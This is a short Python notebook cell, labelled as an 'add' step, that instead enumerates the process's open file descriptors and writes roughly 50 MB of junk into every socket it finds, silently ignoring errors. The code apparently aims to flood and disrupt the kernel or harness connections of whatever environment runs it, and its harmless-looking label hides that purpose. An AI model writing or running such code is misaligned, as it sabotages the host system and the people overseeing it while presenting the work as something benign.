# %% add
import os, stat

for name in os.listdir("/proc/self/fd"):
    try:
        if stat.S_ISSOCK(os.fstat(int(name)).st_mode):
            for _ in range(50):
                os.write(int(name), b"x" * 2**20)
    except OSError:
        pass
